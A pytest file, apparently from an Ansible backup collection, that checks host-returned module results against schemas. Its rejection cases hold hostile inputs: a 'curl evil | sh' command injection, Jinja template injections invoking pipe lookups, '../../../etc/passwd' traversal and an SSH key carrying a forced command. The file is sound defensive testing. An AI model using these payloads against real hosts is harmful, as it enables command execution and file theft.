# Copyright (c) 2026 holdfast contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Results of modules, from hosts that may answer anything."""

from __future__ import annotations

import copy
import json
import subprocess
import typing as t
from pathlib import Path

import pytest
import yaml
from ansible_collections.holdfast.backup.plugins.module_utils._secrets import UNBORN
from ansible_collections.holdfast.backup.plugins.plugin_utils import _delivered

ROOT = Path(__file__).parents[4]
HASH = "$2b$12$" + "a" * 53
NEXT = "$2b$12$" + "b" * 53
PUBLIC = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGwQ1vO8nJ9d6yqQpuyXkFBr1dVXtn9Pfx9YlyoHRTOY"
IDENTITY: dict[str, t.Any] = {
    "repositories": {
        "vault": {
            "rest_user": "web1--vault",
            "rest_hash": HASH,
            "rest_next_hash": None,
            "busy": None,
            "held": False,
            "ssh_public_key": PUBLIC,
            "ssh_next_public_key": None,
            "password_next": False,
            "password_old": False,
            "made": True,
            "fingerprint": "0" * 32,
            "bundle_name": "0" * 32 + "-" + "1" * 16 + ".age",
            "bundle": "eA==",
            "bundle_valid": False,
            "way": "2" * 32,
            "recorded": False,
        }
    },
    "stale": [],
    "pruned": [],
}
HOST: dict[str, t.Any] = {
    "packages": {"restic": {"installed": None, "candidate": "0.18.0-1", "versions": ["0.18.0-1"]}},
    "apt": True,
    "subvolumes": {"/srv/holdfast/web1--vault": "other", "/srv/holdfast/web2--vault": None},
    "apt_lists": None,
    "binaries": {"/usr/bin/restic": None},
    "calendars": {"daily": {"valid": True, "error": None, "never": False}},
    "resolve": {"vault1": {"addresses": ["192.0.2.1"], "error": None, "variable": None}},
    "accounts": {"holdfast": True},
    "files": {"/usr/local/bin/holdfast": None},
    "interpreters": {"/usr/bin/borg": "/usr/bin/python3", "/opt/borg": "", "/gone": None},
    "mounts": {"/mnt": True, "/slow": None},
    "file_systems": {"/srv/holdfast": "btrfs", "/slow": None},
    "places": {"/srv/holdfast": None, "/mnt/usb": {"owner": "olga", "foreign": "photos"}},
    "running": ["holdfast-system--vault.service"],
    "manifests": {"file_tree": {"jobs": ["/etc/x"]}, "units": {}},
    "settled": ["jobs"],
    "status": '{\n "units": []\n}\n',
    "trees": {
        "jobs": {
            "files": ["/x"],
            "directories": {"/d": True},
            "entries": {"/x": ["file", "root", "", "0644", "0"], "/d": None},
        },
        "repositories": None,
    },
    "records": {"vault": {"HOLDFAST_REPOSITORY_ID": "0123"}},
    "htpasswd": {"fleet_id": "6f1c1f0e9a3b4d53", "users": {"web1--vault": "web1", "me": None}},
    "ssh_accounts": {
        "fleet_id": "6f1c1f0e9a3b4d53",
        "accounts": {"bk-web1": {"backup_id": "web1", "repositories": ["offsite"]}},
    },
    "foreign_accounts": ["bk-olga"],
    "escrow_copies": {"web1--vault": [f"{'0' * 32}-{'1' * 16}.age"]},
    "ssh_host_keys": [PUBLIC],
    "sandbox": {"works": True, "error": None},
    "server_sandbox": None,
    "systemd": 257,
    "selinux": None,
    "reads_everything": True,
    "virtualization": "kvm",
    "python": "3.13.5",
}
HTPASSWD: dict[str, t.Any] = {key: [] for key in _delivered.RESULTS["htpasswd"]}
AUTHORITY: dict[str, t.Any] = {
    "ca": None,
    "leaf_not_after": 1803254400,
    "fingerprint": "40808e",
    "pending": False,
    "served_names": ["vault1"],
    "certificate_file": "/c",
    "key_file": "/k",
}
SSH_ACCOUNTS: dict[str, t.Any] = {
    **{key: [] for key in _delivered.RESULTS["ssh_accounts"]},
    "refused": {"bk-web1": ["offsite: it is no key"]},
    "served": {"bk-web1": {"offsite": ["SHA256:4NFZIAMRYxnOcxqNNXVlRLDM3fGPuXUNvzs3TsyeyTQ"]}},
}
PASSWORD = {
    "name": "vault",
    "action": "use",
    "changed": True,
    "kept": None,
    "id": "0" * 64,
    "key": "a" * 64,
    "old_key": "b" * 64,
}
GOOD = {
    "repository_password": {"repositories": [PASSWORD]},
    "ssh_accounts": SSH_ACCOUNTS,
    "host_info": HOST,
    "identity": IDENTITY,
    "htpasswd": HTPASSWD,
    "tls_authority": AUTHORITY,
}


@pytest.fixture(scope="module")
def certificate(tmp_path_factory: pytest.TempPathFactory) -> str:
    path = tmp_path_factory.mktemp("ca") / "ca.pem"
    command = "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout /dev/null -subj /CN=ca -out"
    subprocess.run([*command.split(), str(path)], check=True, capture_output=True, timeout=30)
    return path.read_text()


@pytest.mark.parametrize("module", sorted(GOOD))
def test_a_good_answer_is_kept(module: str) -> None:
    assert _delivered.accept(module, {"changed": True, **GOOD[module]}) == {"changed": True, **GOOD[module]}


@pytest.mark.parametrize("module", sorted(GOOD))
def test_the_schema_is_the_documented_result(module: str) -> None:
    text = (ROOT / f"plugins/modules/{module}.py").read_text()
    documented = yaml.safe_load(text.split('RETURN = r"""')[1].split('"""')[0])
    assert set(_delivered.RESULTS[module]) == set(documented)


def bad(module: str, key: str, value: t.Any) -> tuple[str, str, t.Any]:
    return module, key, value


def entry(**changes: t.Any) -> dict[str, t.Any]:
    return {"vault": {**IDENTITY["repositories"]["vault"], **changes}}


BAD = [
    bad("host_info", "packages", ["restic"]),
    bad("host_info", "packages", {"restic": "0.18.0"}),
    bad("host_info", "packages", {"restic": {"installed": 18, "candidate": None, "versions": []}}),
    bad("host_info", "packages", {"restic": {"installed": None, "candidate": None, "versions": [18]}}),
    bad("host_info", "apt_lists", "no"),
    bad("host_info", "calendars", {"daily": {"valid": "no", "error": None, "never": None}}),
    bad("host_info", "calendars", {"daily": None}),
    bad("host_info", "resolve", {"vault1": {"addresses": "x", "error": None}}),
    bad("host_info", "running", "holdfast-system--vault.service"),
    bad("host_info", "running", [{"a": 1}]),
    bad("host_info", "running", ["x" * 5000]),
    bad("host_info", "running", ["\ud800"]),
    bad("host_info", "running", ["x"] * 20000),
    bad("host_info", "htpasswd", {"fleet_id": 5, "users": {}}),
    bad("host_info", "htpasswd", {"fleet_id": "x; curl evil | sh", "users": {}}),
    bad("host_info", "htpasswd", {"fleet_id": "6f1c1f0e9a3b4d53", "users": ["web1--vault"]}),
    bad("host_info", "htpasswd", {"fleet_id": "6f1c1f0e9a3b4d53", "users": {"a\nb": "x"}}),
    bad("host_info", "htpasswd", {"fleet_id": "6f1c1f0e9a3b4d53", "users": {"web1--vault": {}}}),
    bad("host_info", "records", {"../x": {}}),
    bad("host_info", "settled", True),
    bad("host_info", "settled", [{"jobs": True}]),
    bad("host_info", "status", {"units": []}),
    bad("host_info", "status", "x" * (1 << 20 | 1)),
    bad("host_info", "trees", {"jobs": {"files": []}}),
    bad("host_info", "trees", {"jobs": {"files": [], "directories": {}, "entries": {"/x": "file"}}}),
    bad("host_info", "systemd", "257"),
    bad("host_info", "systemd", True),
    bad("host_info", "sandbox", True),
    bad("host_info", "files", None),
    bad("tls_authority", "ca", "{{ lookup('pipe', 'id') }}"),
    bad("tls_authority", "ca", ["-----BEGIN CERTIFICATE-----"]),
    bad("tls_authority", "ca", "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"),
    bad("tls_authority", "ca", UNBORN),
    bad("tls_authority", "pending", "yes"),
    bad("repository_password", "repositories", {"vault": PASSWORD}),
    bad("repository_password", "repositories", [{**PASSWORD, "old_key": "../config"}]),
    bad("repository_password", "repositories", [{**PASSWORD, "key": UNBORN}]),
    bad("htpasswd", "switched", "web1--vault"),
    bad("htpasswd", "switched", [5]),
    bad("ssh_accounts", "created_keys", "bk-web1 offsite"),
    bad("ssh_accounts", "refused", []),
    bad("ssh_accounts", "served", {"bk-web1": ["SHA256:x"]}),
    bad("ssh_accounts", "served", {"bk-web1": {"../x": []}}),
    bad("htpasswd", "refused", None),
    bad("identity", "repositories", {"vault": HASH}),
    bad("identity", "repositories", {"../vault": entry()["vault"]}),
    bad("identity", "repositories", entry(rest_hash="{{ 7 * 7 }}")),
    bad("identity", "repositories", entry(rest_hash="$2b$31$" + "a" * 53)),
    bad("identity", "repositories", entry(rest_hash=UNBORN)),
    bad("identity", "repositories", entry(rest_next_hash=[HASH])),
    bad("identity", "repositories", entry(rest_user="a:b")),
    *(
        bad("identity", "repositories", entry(**{key: value}))
        for key in ("ssh_public_key", "ssh_next_public_key")
        for value in (
            f"{PUBLIC}\n",
            f"{PUBLIC}\n{PUBLIC}",
            f'command="id" {PUBLIC}',
            "https://x",
            UNBORN,
            5,
            PUBLIC * 20000,
        )
    ),
    *(
        bad("host_info", "ssh_accounts", value)
        for value in (
            [5],
            {"fleet_id": 5, "accounts": {}},
            {"fleet_id": "f1", "accounts": {"a b": "web1"}},
            {"fleet_id": "f1"},
        )
    ),
    *(
        bad("host_info", "ssh_accounts", {"fleet_id": "f1", "accounts": value})
        for value in (
            ["bk-web1"],
            *(
                {"bk-web1": each}
                for each in (
                    "web1",
                    None,
                    {"backup_id": "../x", "repositories": []},
                    {"backup_id": "web1"},
                    {"backup_id": "web1", "repositories": ["../x"]},
                    {"backup_id": "web1", "repositories": "offsite"},
                )
            ),
        )
    ),
    *(
        bad("host_info", "ssh_host_keys", value)
        for value in (
            None,
            "x",
            [5],
            [f"{PUBLIC}\n"],
            [PUBLIC, PUBLIC],
            [f"* {PUBLIC}"],
            [f"@revoked * {PUBLIC}"],
            {"a": 1},
        )
    ),
    bad("identity", "repositories", entry(bundle_name="../../../etc/passwd")),
    bad("identity", "repositories", entry(bundle="not base64!")),
    bad("identity", "repositories", entry(fingerprint={"a": 1})),
    bad("identity", "stale", {"a": 1}),
]


@pytest.mark.parametrize(("module", "key", "value"), BAD)
def test_an_answer_of_another_type_is_one_error(module: str, key: str, value: t.Any) -> None:
    with pytest.raises(ValueError, match=rf"\A{module}\.{key}.*is not .*look at what answers on this host"):
        _delivered.accept(module, {"changed": False, **GOOD[module], key: value})


def test_a_missing_key_is_an_error() -> None:
    said = {key: value for key, value in HOST.items() if key != "running"}
    assert _delivered.accept("host_info", {**said, "running": None})["running"] is None
    with pytest.raises(ValueError, match=r"host_info\.packages"):
        _delivered.accept("host_info", {})


def test_an_error_shows_no_bundle() -> None:
    with pytest.raises(ValueError, match="repositories") as caught:
        _delivered.accept("identity", {"repositories": entry(bundle="hunter22!"), "stale": [], "pruned": []})
    assert "hunter22" not in str(caught.value)
    # As short as what would be shown of another key.
    with pytest.raises(ValueError, match=r"\Aidentity\.repositories: is not") as caught:
        _delivered.accept("identity", {"repositories": "hunter22", "stale": [], "pruned": []})
    assert "hunter22" not in str(caught.value)
    with pytest.raises(ValueError, match=r"\Aidentity\.stale = 'hunter22': is not"):
        _delivered.accept("identity", {**IDENTITY, "stale": "hunter22"})


def test_a_certificate_is_kept(certificate: str) -> None:
    assert _delivered.accept("tls_authority", {**AUTHORITY, "ca": certificate})["ca"] == certificate
    for odd in (certificate + "x", certificate * 9, "\n" + certificate):
        with pytest.raises(ValueError, match=r"tls_authority\.ca"):
            _delivered.accept("tls_authority", {**AUTHORITY, "ca": odd})


def test_check_mode_cannot_know_everything() -> None:
    said = {**IDENTITY, "repositories": entry(rest_hash=UNBORN, fingerprint=UNBORN, bundle_name=UNBORN, bundle=UNBORN)}
    assert _delivered.accept("identity", said, check_mode=True) == said
    assert _delivered.accept("tls_authority", {**AUTHORITY, "ca": UNBORN}, check_mode=True)["ca"] == UNBORN


@pytest.mark.parametrize("module", ["identity", "units"])
def test_nothing_that_ansible_obeys_is_kept(module: str) -> None:
    said = {**IDENTITY, "ansible_facts": {"backup_id": "db1"}, "add_host": {}, "ansible_stats": {}, "add_group": "x"}
    assert not set(_delivered.accept(module, said)) & set(_delivered.OBEYED)


def test_a_failure_brings_its_message_only() -> None:
    said = {"failed": True, "msg": "no", **IDENTITY, "ansible_facts": {}}
    assert _delivered.accept("identity", said) == {"failed": True, "msg": "no"}


def test_every_module_that_runs_on_a_host_is_checked() -> None:
    routed = yaml.safe_load((ROOT / "meta/runtime.yml").read_text())["plugin_routing"]["modules"]
    assert {each["action_plugin"] for each in routed.values()} == {"holdfast.backup.delivered"}
    modules = {path.stem for path in (ROOT / "plugins/modules").glob("*.py")}
    actions = {path.stem for path in (ROOT / "plugins/action").glob("*.py")}
    assert modules == set(routed) | actions


USER = {"name": "web1--vault", "host": "web1", "backup_id": "web1", "repository": "vault", "quota": "5G"}


def accounts(client: t.Any, **known: t.Any) -> list[dict[str, t.Any]]:
    stored = {"rest": {"vault": {"user": "web1--vault", "hash": "stored", "next_hash": None}}, "decommissioned": None}
    return _delivered.rest_accounts([USER], {"web1": {**stored, **known}}, {"web1": client})


@pytest.mark.parametrize(
    ("running", "busy"),
    [
        ([], False),
        (["holdfast-system--other.service"], False),
        (["holdfast-system--vault.service"], True),
        (["holdfast-system--vault--pg.service"], True),
        (None, True),
        # A hostile client must not stop the server, and with it everybody.
        (5, True),
        (True, True),
        ([5, None, {"a": 1}], False),
        ({"a": 1}, True),
        ("text", True),
    ],
)
def test_a_clients_running_units(running: t.Any, busy: bool) -> None:
    assert accounts({"__holdfast_host": {"running": running}})[0]["busy"] is busy


@pytest.mark.parametrize(
    "said",
    [
        {},
        {"__escrow_identity": {"repositories": 5}},
        {"__escrow_identity": {"repositories": ["vault"]}},
        {"__escrow_identity": {**IDENTITY, "repositories": entry(rest_hash={"a": 1})}},
        {"__escrow_identity": {**IDENTITY, "failed": True}},
        {"__escrow_identity": "text", "__holdfast_host": 5},
    ],
)
def test_without_a_hash_of_this_run_the_stored_one_counts(said: dict[str, t.Any]) -> None:
    found = accounts(said)[0]
    assert found == {
        **{key: USER[key] for key in ("name", "host", "backup_id", "quota")},
        "hash": "stored",
        "next_hash": None,
        "busy": True,
        "heard": False,
    }


def test_the_hash_of_this_run_counts() -> None:
    born = {"__escrow_identity": {**IDENTITY, "repositories": entry(rest_next_hash=NEXT)}}
    assert (accounts(born)[0]["hash"], accounts(born)[0]["next_hash"]) == (HASH, NEXT)
    assert accounts(born)[0]["heard"] is True


def test_a_client_that_gave_its_next_password_up_has_none_any_more() -> None:
    stored = {"user": "web1--vault", "hash": "stored", "next_hash": NEXT}
    born = {"__escrow_identity": {**IDENTITY, "repositories": entry(rest_next_hash=None)}}
    assert accounts(born, rest={"vault": stored})[0]["next_hash"] is None
    assert accounts({}, rest={"vault": stored})[0]["next_hash"] == NEXT


@pytest.mark.parametrize("busy", [True, False])
def test_what_a_client_said_last_of_its_running_backups_counts(busy: bool) -> None:
    seen = {"__holdfast_host": {"running": [] if busy else ["holdfast-system--vault.service"]}}
    born = {"__escrow_identity": {**IDENTITY, "repositories": entry(rest_next_hash=NEXT, busy=busy)}}
    assert accounts({**seen, **born})[0]["busy"] is busy


def test_a_client_that_was_given_up_has_no_account() -> None:
    assert accounts({}, decommissioned={"time": "today"}) == []
    stored: dict[str, t.Any] = {"rest": {}, "decommissioned": None}
    assert _delivered.rest_accounts([USER], {"web1": stored}, {}, "web1") == []
    assert _delivered.rest_accounts([USER], {"web1": stored}, {})[0]["hash"] == ""


# --- repositories over SSH

ACCOUNT: dict[str, t.Any] = {
    "name": "bk-web1",
    "host": "web1",
    "backup_id": "web1",
    "keys": [{"repository": "vault", "kind": "rclone", "from": []}],
}
OLD = PUBLIC.replace("TOY", "TOZ")


def keys_of(client: t.Any, **known: t.Any) -> list[t.Any]:
    stored = {"ssh": {"vault": {"key": OLD, "next_key": None}}, "decommissioned": None, **known}
    found = _delivered.ssh_accounts([ACCOUNT], {"web1": stored}, {"web1": client})
    return [key["public_keys"] for account in found for key in account["keys"]]


def test_the_keys_of_a_client() -> None:
    assert keys_of({}) == [[OLD]]
    assert keys_of({}, ssh={}) == [[]]
    stored = {"web1": {"ssh": {"vault": {"key": OLD, "next_key": None}}, "decommissioned": None}}
    for client, heard in ({}, False), ({"__escrow_identity": IDENTITY}, True):
        (found,) = _delivered.ssh_accounts([ACCOUNT], stored, {"web1": client})
        assert found["keys"][0]["heard"] is heard
    assert keys_of({}, ssh={"vault": {"key": OLD, "next_key": PUBLIC}}) == [[OLD, PUBLIC]]
    assert keys_of({"__escrow_identity": IDENTITY}) == [[PUBLIC]]
    rotating = {**IDENTITY, "repositories": entry(ssh_next_public_key=OLD)}
    assert keys_of({"__escrow_identity": rotating}) == [[PUBLIC, OLD]]
    assert keys_of({"__escrow_identity": {**IDENTITY, "repositories": entry(ssh_public_key=None)}}) == [[OLD]]
    # One that says anything else keeps what it had, and stops nobody.
    for said in (5, {"repositories": 5}, {**IDENTITY, "repositories": entry(ssh_public_key="x")}):
        assert keys_of({"__escrow_identity": said}) == [[OLD]]
    assert keys_of({}, decommissioned={"time": "today"}) == []
    assert _delivered.ssh_accounts([ACCOUNT], {"web1": {"decommissioned": None}}, {}, "web1") == []


def test_host_keys_are_pinned_as_read_on_the_server() -> None:
    repositories: list[dict[str, t.Any]] = [
        {"name": "offsite", "server": "vault1", "ssh": {"alias": "holdfast-offsite"}},
        {"name": "local", "server": None, "ssh": None},
    ]
    known = {"vault1": {"ssh_host_keys": [OLD]}}

    def pinned(said: t.Any, **later: t.Any) -> dict[str, list[str]]:
        return _delivered.ssh_host_keys(repositories, known, {"vault1": {"__holdfast_host": said, **later}})

    assert pinned(HOST) == {"offsite": [PUBLIC]}
    assert pinned({**HOST, "ssh_host_keys": []}) == {"offsite": [OLD]}
    assert pinned({**HOST, "ssh_host_keys": ["* ssh-rsa AAAA"]}) == {"offsite": [OLD]}
    assert pinned(None) == {"offsite": [OLD]}
    # A server that has sshd since this run is looked at again.
    bare = {**HOST, "ssh_host_keys": []}
    assert pinned(bare, __ssh_access_seen=HOST) == {"offsite": [PUBLIC]}
    assert pinned(bare, __ssh_access_seen={"skipped": True, "changed": False}) == {"offsite": [OLD]}
    assert pinned(bare, __ssh_access_seen={**HOST, "ssh_host_keys": ["* ssh-rsa AAAA"]}) == {"offsite": [OLD]}


PLAY = """
- hosts: evil
  gather_facts: false
  tasks:
    - holdfast.backup.host_info:
      register: seen
- hosts: victim
  gather_facts: false
  tasks:
    - ansible.builtin.debug:
        msg: "{{ hostvars.evil.seen.virtualization | default('none') }} {{ hostvars.evil.backup_id | default('none') }}"
"""


@pytest.mark.parametrize("systemd", [257, "257"])
def test_ansible_checks_it_and_renders_no_text_of_a_host(tmp_path: Path, systemd: t.Any) -> None:
    """With a host that answers whatever is run on it by itself."""
    proof = tmp_path / "proof"
    text = "{{ lookup('ansible.builtin.pipe', 'touch " + str(proof) + "') }}"
    said = copy.deepcopy({**HOST, "systemd": systemd, "virtualization": text, "ansible_facts": {"backup_id": "db1"}})
    (tmp_path / "answer.json").write_text(json.dumps(said))
    python = tmp_path / "python"
    python.write_text(f"#!/bin/sh\ncat >/dev/null\ncat {tmp_path}/answer.json\n")
    python.chmod(0o755)
    (tmp_path / "play.yml").write_text(PLAY)
    (tmp_path / "inventory.ini").write_text(
        f"evil ansible_connection=local ansible_python_interpreter={python}\nvictim ansible_connection=local\n"
    )
    done = subprocess.run(
        [ROOT / ".venv/bin/ansible-playbook", "-i", tmp_path / "inventory.ini", tmp_path / "play.yml"],
        env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "ANSIBLE_COLLECTIONS_PATH": str(ROOT / ".collections")},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert not proof.exists()
    if systemd == 257:
        assert "lookup('ansible.builtin.pipe'" in done.stdout, done.stdout + done.stderr
        assert " none" in done.stdout
        assert done.returncode == 0
    else:
        assert "host_info.systemd = '257': is not a version number or null" in done.stdout, done.stdout + done.stderr
        assert done.returncode != 0


def test_many_copies_of_the_escrow_are_an_answer() -> None:
    """They are never removed: 500 repositories have 10,000 after a few rotations."""
    names = [f"{number:032x}-{'1' * 16}.age" for number in range(100)]
    many = {f"web{number}--vault": names for number in range(500)}
    said = {**GOOD["host_info"], "escrow_copies": many}
    assert _delivered.accept("host_info", said)["escrow_copies"] == many
    assert _delivered.accept("escrow_copies", {"added": many})["added"] == many
